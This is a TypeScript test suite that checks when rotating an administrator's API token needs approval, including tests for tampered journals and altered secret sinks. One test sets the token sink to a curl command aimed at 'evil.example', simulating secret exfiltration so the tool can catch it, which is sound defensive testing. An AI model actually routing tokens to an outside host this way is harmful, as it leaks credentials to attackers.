/** The token of an administrator is approved once: a rotation on the same terms, and only that, needs no other approval. */
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { plan } from '../../src/app/plan.ts';
import { digestOf } from '../../src/model/canonical-json.ts';
import { dayMs } from '../../src/model/duration.ts';
import type { ConfigFile } from '../../src/model/generated/config-file.ts';
import type { TokenEntry, UserEntry } from '../../src/model/generated/users-file.ts';
import type { Plan } from '../../src/model/plan.ts';
import { isLong, share } from '../support/suite.ts';
import { stateFiles } from './support/cut-journal.ts';
import { mark, openBudgets, openStage, type Stage } from './support/stage.ts';

const strict: ConfigFile = {
  approvals: 'approvals.yaml',
  policy: { budgets: { ...openBudgets, 'admin-touch': { share: 0, floor: 0, cap: 0 } } },
  secrets: { sinks: { vault: { command: ['sh', '-c', 'cat >/dev/null'] }, other: { command: ['cat'] } } },
};
const owner: UserEntry = { username: 'owner', roles: ['system_user', 'system_admin'] };
const withToken = (token: Partial<TokenEntry>): readonly UserEntry[] => [
  { ...owner, tokens: [{ name: 'ci', sink: 'vault', overlap: '24h', ...token }] },
];

async function approve(stage: Stage, ...users: readonly string[]): Promise<void> {
  const expires = new Date(stage.clock.now() + 5 * dayMs).toISOString().slice(0, 10);
  const approvals = users.length === 0 ? [] : [{ class: 'admin-touch', users, reason: 'yes', by: 'boss', expires }];
  await writeFile(join(stage.dir, 'approvals.yaml'), JSON.stringify({ version: 1, approvals }));
}

/** A server whose owner has a token that an applied plan made, by approval; the approval is gone. */
async function openWithToken(): Promise<Stage> {
  const stage = await openStage({
    users: [{ username: 'owner', roles: 'system_user system_admin' }, { username: 'ada' }],
    muster: strict,
    version: '11.9.0',
  });
  await approve(stage, 'owner');
  await stage.declare(withToken({}));
  await stage.apply();
  await approve(stage);
  expect(marksOf(stage)).toEqual(['ci@1']);
  return stage;
}

const marksOf = ({ sandbox }: Stage, name = 'owner'): readonly string[] =>
  sandbox.control.tokens(name).map(({ description }) => description.split(' ')[0] ?? '');

const touchesIn = ({ blocked }: Plan): readonly string[] =>
  blocked.filter(({ budget }) => budget === 'admin-touch').map(({ change }) => change.id);

async function applied(stage: Stage, entries: readonly UserEntry[]): Promise<Plan> {
  await stage.declare(entries);
  return (await stage.apply()).plan;
}

describe('a rotation of the token of an administrator needs no approval', () => {
  test('where sink and schedule are as in the plan that made it, generation after generation, months later', async () => {
    const stage = await openWithToken();
    for (const generation of [2, 3]) {
      stage.clock.advance(90 * dayMs);
      const made = await applied(stage, withToken({ generation }));

      expect(touchesIn(made)).toEqual([]);
      expect(made.actions.flatMap(({ changes }) => changes).filter(({ concerns_admin: on }) => on)).toEqual([]);
      expect(marksOf(stage)).toContain(`ci@${generation}`);
    }
  });

  test('where the sink has another name and is the same', async () => {
    const stage = await openWithToken();
    await stage.configure({ ...strict, secrets: { sinks: { safe: strict.secrets?.sinks?.['vault'] ?? {} } } });

    expect(touchesIn(await applied(stage, withToken({ generation: 2, sink: 'safe' })))).toEqual([]);
  });
});

describe('needs an approval of admin-touch:', () => {
  const other: readonly [what: string, token: Partial<TokenEntry>][] = [
    ['a rotation to another sink', { generation: 2, sink: 'other' }],
    ['a rotation with another overlap', { generation: 2, overlap: '7d' }],
    ['a rotation with another life', { generation: 2, expires_in: '90d' }],
    ['a rotation by two generations', { generation: 3 }],
    ['another token', { name: 'cd' }],
  ];

  test.each(share(other, 2))('%s', async (_, token) => {
    const stage = await openWithToken();
    const made = await applied(stage, withToken(token));

    const { name = 'ci', generation = 1 } = token;
    expect(touchesIn(made)).toEqual([`owner/tokens/${name}@${generation}/token-create`]);
    expect(marksOf(stage).filter((one) => one !== 'ci@1')).toEqual([]);
  });

  test('a rotation to a sink of the same name that is another one', async () => {
    const stage = await openWithToken();
    await stage.configure({ ...strict, secrets: { sinks: { vault: { command: ['curl', 'https://evil.example'] } } } });
    await stage.declare(withToken({ generation: 2 }));

    expect(touchesIn(await stage.plan())).toHaveLength(1);
  });

  test.runIf(isLong)('a rotation of a token that was disabled, or revoked', async () => {
    const stage = await openWithToken();
    await applied(stage, withToken({ enabled: false }));
    const ofDisabled = await applied(stage, withToken({ generation: 2 }));
    await applied(stage, [{ ...owner, tokens: [] }]);
    const ofNone = await applied(stage, withToken({}));

    expect(touchesIn(ofDisabled)).toHaveLength(1);
    expect(marksOf(stage)).toEqual([]);
    expect(touchesIn(ofNone)).toHaveLength(1);
  });

  test.runIf(isLong)('a token of the same name and terms of another administrator', async () => {
    const stage = await openWithToken();
    const [first] = withToken({ generation: 2 });
    const second: UserEntry = { ...first, username: 'ada', roles: ['system_user', 'system_admin'] };
    const made = await applied(stage, [...withToken({}), second]);

    expect(touchesIn(made)).toEqual(['ada/tokens/ci@2/token-create']);
  });

  test('a rotation of a token that no applied plan made, though it has the mark', async () => {
    const stage = await openStage({
      users: [{ username: 'owner', roles: 'system_user system_admin', tokens: [{ description: mark('ci') }] }],
      muster: strict,
    });
    await approve(stage);

    expect(touchesIn(await applied(stage, withToken({ generation: 2 })))).toHaveLength(1);
  });

  test.each<[what: string, change: (stage: Stage) => Promise<NodeJS.ProcessEnv>]>(
    share(
      [
        ['is gone', ({ dir }) => Promise.resolve({ XDG_STATE_HOME: join(dir, 'elsewhere') })],
        ['was signed with another token', async (stage) => ({ MUSTER_TOKEN: await otherTokenOf(stage) })],
        [
          'has a plan beside it that is another',
          async (stage) => {
            const file = (await stateFiles(stage)).journal.replace('.jsonl', '.plan.json');
            const older = JSON.parse(await readFile(file, 'utf8')) as Plan;
            const { digest: _, ...content } = { ...older, notices: [{ code: 'x', text: 'x' }] };
            await writeFile(file, JSON.stringify({ ...content, digest: digestOf(content) }));
            return {};
          },
        ],
        [
          'has a last line that nobody signed',
          async (stage) => {
            const { journal } = await stateFiles(stage);
            const lines = (await readFile(journal, 'utf8')).trimEnd().split('\n');
            const last = lines.at(-1) ?? '';
            await writeFile(journal, `${[...lines.slice(0, -1), last.replace(/,"mac":"[^"]*"/, '')].join('\n')}\n`);
            return {};
          },
        ],
      ],
      4,
      3,
    ),
  )('a rotation where the journal %s', async (_, change) => {
    const stage = await openWithToken();
    const env = await change(stage);
    await stage.declare(withToken({ generation: 2 }));
    const planned = await plan({}, { ...stage.ports, env: { ...stage.ports.env, ...env } });

    expect(touchesIn(planned.plan)).toHaveLength(1);
  });
});

/** Of the same caller. */
async function otherTokenOf({ sandbox }: Stage): Promise<string> {
  const headers = { Authorization: `Bearer ${sandbox.adminToken}` };
  const body = JSON.stringify({ description: 'another' });
  const answer = await fetch(`${sandbox.url}/api/v4/users/me/tokens`, { method: 'POST', headers, body });
  return ((await answer.json()) as { token: string }).token;
}
